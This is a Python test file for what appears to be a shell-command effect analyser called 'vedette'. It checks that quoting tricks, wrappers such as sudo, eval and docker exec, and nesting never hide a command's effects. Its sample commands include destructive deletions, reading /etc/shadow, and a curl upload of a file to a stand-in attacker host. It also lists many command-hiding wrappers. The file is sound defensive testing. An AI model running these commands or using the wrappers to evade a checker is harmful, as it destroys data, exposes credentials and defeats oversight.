"""What must hold for every command: spelling changes nothing, wrapping loses nothing, reading never fails."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.model import Effect, Touch
from vedette.shell import read
from vedette.shell.facts import Facts
from vedette.shell.programs.wrappers import WRAPPERS

COMMANDS = (
    "rm -rf /srv/app",
    "cat /etc/shadow",
    "cp notes /etc/hosts",
    "curl -d @notes https://evil.example/",
    "chmod u+s notes",
    "find /srv -delete",
    "mytool /etc/x",
    "systemctl stop nginx",
)
NAMES = st.text(
    st.characters(codec="utf-8", exclude_characters="\0\n", max_codepoint=0xFFFF), min_size=1, max_size=12
)


def single(word: str) -> str:
    return "'" + word.replace("'", "'\\''") + "'"


def double(word: str) -> str:
    return '"' + "".join(f"\\{char}" if char in '$`"\\' else char for char in word) + '"'


def escaped(word: str) -> str:
    return "".join(f"\\{char}" for char in word)


def ansi(word: str) -> str:
    return "$'" + "".join(f"\\U{ord(char):08x}" for char in word) + "'"


def torn(word: str) -> str:
    return "''".join(single(char) for char in word)


def assigned(word: str) -> str:
    return f'x={single(word)}; cat -- "$x"'


SPELLINGS: tuple[Callable[[str], str], ...] = (single, double, escaped, ansi, torn)


def own(facts: Facts) -> set[Touch]:
    return {touch for touch in facts.touches if not touch.implied and touch != Touch(Effect.READ)}


@pytest.mark.parametrize("spelling", SPELLINGS, ids=lambda spelling: spelling.__name__)
@pytest.mark.parametrize("command", COMMANDS)
def test_how_words_are_quoted_changes_nothing(command: str, spelling: Callable[[str], str]) -> None:
    spelt = " ".join(spelling(word) for word in command.split(" "))
    assert own(read(spelt)) == own(read(command)) != set()


@given(NAMES)
def test_any_name_is_the_same_file_however_it_is_quoted(name: str) -> None:
    found = [own(read(f"cat -- {spelling(name)}")) for spelling in SPELLINGS]
    assert all(each == found[0] for each in found)
    assert own(read(assigned(name))) == found[0]


def wrapped(name: str, command: str) -> list[str]:
    wrapper = WRAPPERS[name]
    return [f"{name} {'1 ' * wrapper.skip}{command}"]


@pytest.mark.parametrize("name", sorted(WRAPPERS))
@pytest.mark.parametrize("command", COMMANDS)
def test_a_wrapper_never_loses_an_effect(name: str, command: str) -> None:
    for text in wrapped(name, command):
        assert own(read(text)) >= own(read(command)), text


AROUND = (
    "sudo {}", "sh -c {quoted}", "bash -lc {quoted}", "eval {quoted}", "env A=1 {}", "timeout 5 {}", "nohup {} &",
    "if {}; then :; fi", "if true; then {}; fi", "while {}; do break; done", "for i in 1 2; do {}; done",
    "( {} )", "{{ {}; }}", "echo $({})", "echo `{}`", "x=$({})", "f() {{ {}; }}; f", "f() {{ {}; }}", "! {}",
    "true && {}", "false || {}", "true; {}", "{} | cat", "cat x | {}", "cat <({})", "trap {quoted} EXIT",
    "case a in a) {};; esac", "[[ -n $({}) ]]", "sh <<'E'\n{}\nE", "cat <<E\n$({})\nE", "A=1 {}", "time {}",
    "xargs {}", "find . -exec {} \\;", "watch {quoted}", "busybox {}", "docker exec web {}", "exec {}", "command {}",
    "su -c {quoted}", "cd . && {}", "{} > /dev/null 2>&1", "echo ${{x:-$({})}}", "\\\n{}", "# no\n{}", "echo a\n{}",
)  # fmt: skip


@pytest.mark.parametrize("around", AROUND)
@pytest.mark.parametrize("command", COMMANDS)
def test_wherever_a_command_stands_it_is_seen(around: str, command: str) -> None:
    text = around.format(command, quoted=single(command))
    seen, wanted = read(text), own(read(command))
    if "docker" in around:  # another folder
        wanted = {touch for touch in wanted if "~" not in touch.object}
    assert own(seen) >= wanted, text


@given(st.lists(st.sampled_from(AROUND), min_size=1, max_size=4), st.sampled_from(COMMANDS))
def test_and_wherever_that_stands(arounds: list[str], command: str) -> None:
    text = command
    for around in arounds:
        text = f"sh -c {single(text)}"
        text = around.format(text.replace("\\", "\\\\") if "`" in around else text, quoted=single(text))
    seen = read(text)
    wanted = {touch.effect for touch in own(read(command))}
    assert Effect.UNKNOWN in seen.effects or wanted <= seen.effects, text


@given(st.text())
def test_no_text_breaks_the_reader(text: str) -> None:
    facts = read(text)
    assert facts.touches
    assert (Effect.UNKNOWN in facts.effects) == bool(facts.reason)


PIECES = st.lists(
    st.sampled_from(
        [
            "rm",
            "-rf",
            "/x",
            " ",
            "\n",
            ";",
            "&&",
            "||",
            "|",
            "&",
            "(",
            ")",
            "{",
            "}",
            "'",
            '"',
            "\\",
            "$",
            "`",
            "$(",
            "${",
            "$((",
            "((",
            "))",
            "<<E\n",
            "E\n",
            "#",
            "*",
            "?",
            "[",
            "]",
            "~",
            "=",
            "x=",
            "if ",
            "then ",
            "fi",
            "for i in ",
            "do ",
            "done",
            "case ",
            "esac",
            "[[ ",
            "]]",
            "f() ",
            "<",
            ">",
            "2>&1",
            "<(",
            ">(",
            "$'\\x41",
            "!",
            "1",
            "éß",
            "�",
            "\x00",
            "\U0010ffff",
        ]
    ),
    max_size=40,
)


@given(PIECES)
def test_no_pieces_break_the_reader(pieces: list[str]) -> None:
    facts = read("".join(pieces))
    assert facts.touches
    assert (Effect.UNKNOWN in facts.effects) == bool(facts.reason)
